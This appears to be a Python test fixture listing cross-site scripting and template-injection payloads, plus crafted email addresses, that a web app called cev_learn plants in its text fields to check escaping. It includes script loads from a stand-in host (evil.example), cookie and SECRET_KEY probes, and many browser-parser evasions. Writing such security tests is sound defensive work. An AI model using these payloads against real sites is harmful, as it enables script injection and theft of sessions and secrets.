"""Hostile text for cross-site scripting tests, planted in every place cev_learn shows text.

Each payload is one line or a short markdown block, at most 80 characters (the shortest text
column, a territory, holds one whole), with no NUL (PostgreSQL refuses it) and no carriage
return. The ones that swallow whatever follows them in a browser (`<plaintext>`, an unclosed
comment) come last, so that in a page holding all of them the others are still parsed.
"""

PAYLOADS = {
    # First, so that a field holding only the first few (a territory holds these four) still
    # gets template syntax and both quote break-outs
    "jinja-product": "{{ 7*191919 }}",
    "double-quote-tag": '"><img src=x onerror=alert(1)>',
    "single-quote-tag": "'><svg onload=alert(1)>",
    "jinja-7x7": "{{7*7}}",
    # Break out of the element or attribute the text is shown in
    "title-breakout": "</title><script>alert(1)</script>",
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "style-breakout": "</style><script>alert(1)</script>",
    "script-breakout": "</script><script>alert(1)</script>",
    "select-breakout": "</option></select><img src=x onerror=alert(1)>",
    "double-quote-attribute": '" onmouseover="alert(1)',
    "single-quote-attribute": "' onmouseover='alert(1)",
    "autofocus-attribute": '" autofocus onfocus="alert(1)" x="',
    "backtick-attribute": "`onmouseover=alert(1)`",
    "comment-close": "--><img src=x onerror=alert(1)>",
    # <script> in many spellings
    "script": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-slash": "<script/x>alert(1)</script>",
    "script-double-open": "<<script>alert(1)//<</script>",
    "template-script": "<template><script>alert(1)</script></template>",
    # Event handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-upper": "<IMG SRC=x OnErRoR=alert(1)>",
    "img-onerror-slashes": "<img/src=x/onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "div-onmouseover": '<div onmouseover="alert(1)">hover me</div>',
    "input-onfocus": "<input autofocus onfocus=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "a-onclick": "<a href=# onclick=alert(1)>click</a>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    # javascript:, vbscript: and data: URLs
    "href-javascript": '<a href="javascript:alert(1)">js link</a>',
    "href-javascript-case": '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    "href-entity": '<a href="&#106;avascript:alert(1)">entity</a>',
    "href-hex-entity": '<a href="&#x6A;&#x61;vascript:alert(1)">hex entity</a>',
    "href-tab-entity": '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    "href-tab": '<a href="java\tscript:alert(1)">tab</a>',
    "href-leading-space": '<a href=" javascript:alert(1)">leading space</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">vbscript</a>',
    "href-data-html": '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "href-data-base64":
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b</a>',
    "img-src-javascript": '<img src="javascript:alert(1)">',
    "img-src-data-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "form-action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">go</button>',
    "tabnabbing": '<a href="https://evil.example" target="_blank">tabnabbing</a>',
    # SVG and MathML
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "svg-animate": "<svg><animate attributeName=href values=javascript:alert(1) />",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "math-href": '<math href="javascript:alert(1)">CLICK</math>',
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Styles
    "style-element": '<style>body{background:url("javascript:alert(1)")}</style>',
    "style-attribute": '<div style="background:url(javascript:alert(1))">styled</div>',
    "style-expression": '<p style="width:expression(alert(1))">expression</p>',
    "link-stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    # Frames, plugins, base and meta
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    "base": '<base href="//evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # Broken-tag tricks and parser confusion
    "quote-soup": '<img """><script>alert(1)</script>">',
    "unclosed-onerror": "<img src=x onerror=alert(1)//",
    "double-angle": "<<img src=x onerror=alert(1)>>",
    "title-attribute-breakout": '<a href="/x" title="</a><img src=x onerror=alert(1)>">t</a>',
    "comment-in-attribute": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "dom-clobbering": "<img src=x name=getElementById><form name=cookie></form>",
    # Entity-, encoding- and look-alike variants (plain text must stay exactly this text)
    "pre-escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric-entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "url-encoded": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "json-escaped": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "fullwidth": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "bare-javascript-url": "javascript:alert(document.cookie)",
    # Markdown: links, images and raw HTML blocks
    "md-link-javascript": "[md link](javascript:alert(1))",
    "md-link-upper": "[md upper](JAVASCRIPT:alert(1))",
    "md-link-entity": "[md entity](&#106;avascript:alert(1))",
    "md-link-angle": "[md angle](<javascript:alert(1)>)",
    "md-image-javascript": "![md image](javascript:alert(1))",
    "md-image-data-svg": "![md svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-reference": "[md ref][evil]\n\n[evil]: javascript:alert(1)",
    "md-autolink": "<javascript:alert(1)>",
    "md-title-breakout": '[md title](/x "a\\" onmouseover=\\"alert(1)")',
    "md-link-text-html": "[<img src=x onerror=alert(1)>](https://example.com)",
    "md-html-block": "<div>\n<img src=x onerror=alert(1)>\n</div>",
    "md-html-details": "<details>\n<summary>raw</summary>\n<script>alert(1)</script>\n</details>",
    # Server-side template injection: must show as typed, never evaluated
    "jinja-statement": "{% print(7*191919) %}",
    "jinja-config": "{{ config.SECRET_KEY }}",
    "jinja-globals": "{{ self.__init__.__globals__ }}",
    "dollar-brace": "${7*191919}",
    "hash-brace": "#{7*191919}",
    "erb": "<%= 7*191919 %>",
    # Swallow the rest of the document in a browser, so they go last
    "unclosed-comment": "<!-- <img src=x onerror=alert(1)>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
}

ALL = list(PAYLOADS.values())

# What an evaluated template payload would print (7 * 191919), and what a leaked
# configuration would show: neither may appear on any page.
EVALUATED = "1343433"

# Addresses email_validator accepts (so imports and forms take them) whose local part still
# carries quotes, backticks, ampersands and template syntax.
EMAILS = [
    "o'hara+{{7*7}}@example.com",
    "'-alert`1`-'@example.com",
    "x'onfocus=alert`1`'@example.com",
    "{{7*191919}}@example.com",
    "a&b=c@example.com",
    "`onmouseover=alert`@example.com",
]
